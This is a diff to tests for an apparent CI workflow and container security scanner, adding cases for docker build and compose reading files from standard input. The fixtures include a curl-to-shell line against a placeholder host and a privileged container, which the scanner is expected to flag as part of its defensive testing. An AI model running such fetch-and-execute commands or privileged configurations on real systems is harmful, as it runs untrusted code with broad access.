@@ -99,7 +99,7 @@ describe('build files outside what the scan reads', () => {
       'tar -cf - --transform=s,spec/image,Dockerfile, . | docker build -',
       'cd /tmp/ctx && tar -cf - . | docker build -t x -',
     ];
-    const archives = ['tar -cf - -C . . | docker build -t x -', 'tar -C "$GITHUB_WORKSPACE" -cf - . | docker build -t x -', 'tar -cf - . | gzip | docker build -t x -'];
+    const archives = ['tar -cf - -C . . | docker build -t x -', 'tar -cf - . | gzip | docker build -t x -'];
     const steps = [...judged, ...unknown, ...archives];
     const root = repository({
       '.github/workflows/ci.yml': `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${steps.map((step) => `      - run: ${JSON.stringify(step)}\n`).join('')}`,
@@ -112,8 +112,49 @@ describe('build files outside what the scan reads', () => {
     expect(lines(result.findings, 'command-download-piped-to-shell')).toEqual(['spec/image:2']);
   });
 
+  it('leaves standard input unknown where descriptors, globs, shadowed commands or loose archivers may feed another file (helper-36)', async () => {
+    const unknown = [
+      'exec 3< spec/image; docker build -f - . < spec/safe 0>&3',
+      'cat spec/[s]afe | docker build -f - .',
+      'docker build -f - . < ~/evil',
+      'cat() { command cat spec/image; }; cat spec/safe | docker build -f - .',
+      'tar -cC /tmp/x . | docker build -t x -',
+      'tar -c --dir=/tmp/x . | docker build -t x -',
+      'tar -c -T list.txt | docker build -t x -',
+      'tar -c . | gzip < spec/evil.tar | docker build -t x -',
+      'tar -c . | gzip -c spec/evil.tar | docker build -t x -',
+      'git archive HEAD | docker build -t x -',
+    ];
+    const plain = ['cat spec/image |\n          docker build -f - .', 'docker build -f - . < spec/image 2>&1 | tee build.log', 'tar -czf - . | docker build -t x -'];
+    const steps = [...unknown, ...plain];
+    const root = repository({
+      '.github/workflows/ci.yml': `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${steps.map((step) => `      - run: |\n          ${step}\n`).join('')}`,
+      'spec/image': EVIL,
+      'spec/safe': 'FROM alpine:3.20\nUSER 1000\n',
+      Dockerfile: 'FROM alpine:3.20\nUSER 1000\n',
+    });
+    const result = await scan({ root });
+    expect(lines(result.findings, 'build-file-not-judged')).toEqual(unknown.map((_, index) => `.github/workflows/ci.yml:${6 + 2 * index}`));
+    expect(lines(result.findings, 'command-download-piped-to-shell')).toEqual(['spec/image:2']);
+  });
+
+  it('reads a pipeline that goes on on the next line, as bash does', async () => {
+    const root = repository({ '.github/workflows/ci.yml': 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -fsSL https://x.example/i.sh |\n            sh\n' });
+    const result = await scan({ root });
+    expect(lines(result.findings, 'command-download-piped-to-shell')).toEqual(['.github/workflows/ci.yml:7']);
+  });
+
+  it('judges the Compose file `docker compose -f -` reads from a file of the repository', async () => {
+    const root = repository({
+      '.github/workflows/ci.yml': 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: docker compose -f - up -d < spec/c.yml\n',
+      'spec/c.yml': 'services:\n  web:\n    image: nginx:1.27\n    privileged: true\n',
+    });
+    const result = await scan({ root });
+    expect(lines(result.findings, 'container-privileged')).toEqual(['spec/c.yml:4']);
+  });
+
   it('judges the file a build reads on standard input, and leaves an archive piped in as the context (helper-33)', async () => {
-    const steps = ['docker build -t x - < ci/df.txt', 'docker build -f - . < Dockerfile', 'cat ci/df.txt | docker build -f - .', 'tar -czh . | docker build -t z -', 'git archive HEAD | docker build -'];
+    const steps = ['docker build -t x - < ci/df.txt', 'docker build -f - . < Dockerfile', 'cat ci/df.txt | docker build -f - .', 'tar -czh . | docker build -t z -', 'tar -cf - . | gzip | docker build -'];
     const root = repository({
       '.github/workflows/ci.yml': `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${steps.map((step) => `      - run: ${step}\n`).join('')}`,
       Dockerfile: 'FROM alpine:3.20\nUSER 1000\n',
